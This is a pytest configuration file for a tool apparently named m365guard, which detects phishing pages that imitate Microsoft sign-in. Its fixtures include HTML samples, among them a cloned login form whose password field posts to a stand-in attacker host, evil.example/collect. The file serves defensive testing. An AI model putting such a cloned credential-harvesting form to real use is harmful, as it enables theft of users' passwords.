"""Global pytest configuration."""

from __future__ import annotations

import asyncio
import inspect
import json
from pathlib import Path

import pytest

from m365guard.analyzer.metrics import metrics
from m365guard.analyzer.page import PageSnapshot
from m365guard.analyzer.ruleset import parse_ruleset

RULES_PATH = Path(__file__).resolve().parents[1] / "config" / "detection-rules.json"

# Genuine sign-in markup: all five fingerprint elements, posts to Microsoft.
MICROSOFT_LOGIN_HTML = """
<html>
<head>
  <script src="https://aadcdn.msauth.net/shared/1.0/content/js/ConvergedLogin_PCore.js"></script>
</head>
<body>
  <form name="f1" method="post" action="https://login.microsoftonline.com/common/login">
    <input type="email" name="loginfmt" id="i0116" placeholder="Email, phone, or Skype">
    <input type="password" name="passwd" id="i0118">
    <input type="hidden" name="idPartnerPL" value="">
  </form>
  <script>var $Config = {"urlMsaSignUp": "https://signup.live.com/"};</script>
</body>
</html>
"""

# Same markup, but the password form posts to the attacker.
CREDENTIAL_HARVEST_HTML = MICROSOFT_LOGIN_HTML.replace(
    "https://login.microsoftonline.com/common/login", "https://evil.example/collect"
)

# Clone without a password field: fingerprint matches, no blocking rule fires.
# Scores dom(10) + content(10) + network(15) = 35 against the default rules.
LOOKALIKE_HTML = """
<html>
<head>
  <script src="https://aadcdn.msauth.net/shared/1.0/content/js/ConvergedLogin_PCore.js"></script>
</head>
<body>
  <form method="post" action="/next">
    <input type="email" name="loginfmt" id="i0116">
    <input type="hidden" name="idPartnerPL">
  </form>
</body>
</html>
"""

# Fingerprint text only; scores 0 against the default rules.
BARE_FINGERPRINT_HTML = """
<html><body>
  <div data-x="idPartnerPL"></div>
  <script>var cfg = {urlMsaSignUp: ""};</script>
</body></html>
"""

UNRELATED_HTML = "<html><body><h1>Quarterly report</h1><form action='/search'><input name='q'></form></body></html>"


@pytest.fixture(scope="session")
def event_loop():
    """Provide a shared event loop for async tests."""
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    try:
        yield loop
    finally:
        loop.close()


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):  # type: ignore[override]
    if inspect.iscoroutinefunction(pyfuncitem.obj):
        testargs = {
            name: pyfuncitem.funcargs[name] for name in pyfuncitem._fixtureinfo.argnames
        }
        loop = testargs.get("event_loop") or asyncio.new_event_loop()
        asyncio.set_event_loop(loop)
        try:
            loop.run_until_complete(pyfuncitem.obj(**testargs))
        finally:
            if "event_loop" not in testargs:
                loop.close()
        return True
    return None


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line("markers", "asyncio: mark test as requiring asyncio support")


@pytest.fixture(autouse=True)
def reset_metrics():
    metrics.reset()
    yield
    metrics.reset()


@pytest.fixture
def rules_doc() -> dict:
    """Fresh copy of the bundled rule document."""
    return json.loads(RULES_PATH.read_text(encoding="utf-8"))


@pytest.fixture
def ruleset(rules_doc):
    return parse_ruleset(rules_doc)


def make_snapshot(
    url: str = "https://evil.example/login",
    html: str = "",
    referrer: str = "",
    headers: dict | None = None,
) -> PageSnapshot:
    """Create a PageSnapshot for testing."""
    return PageSnapshot.from_html(url=url, html=html, referrer=referrer, headers=headers)
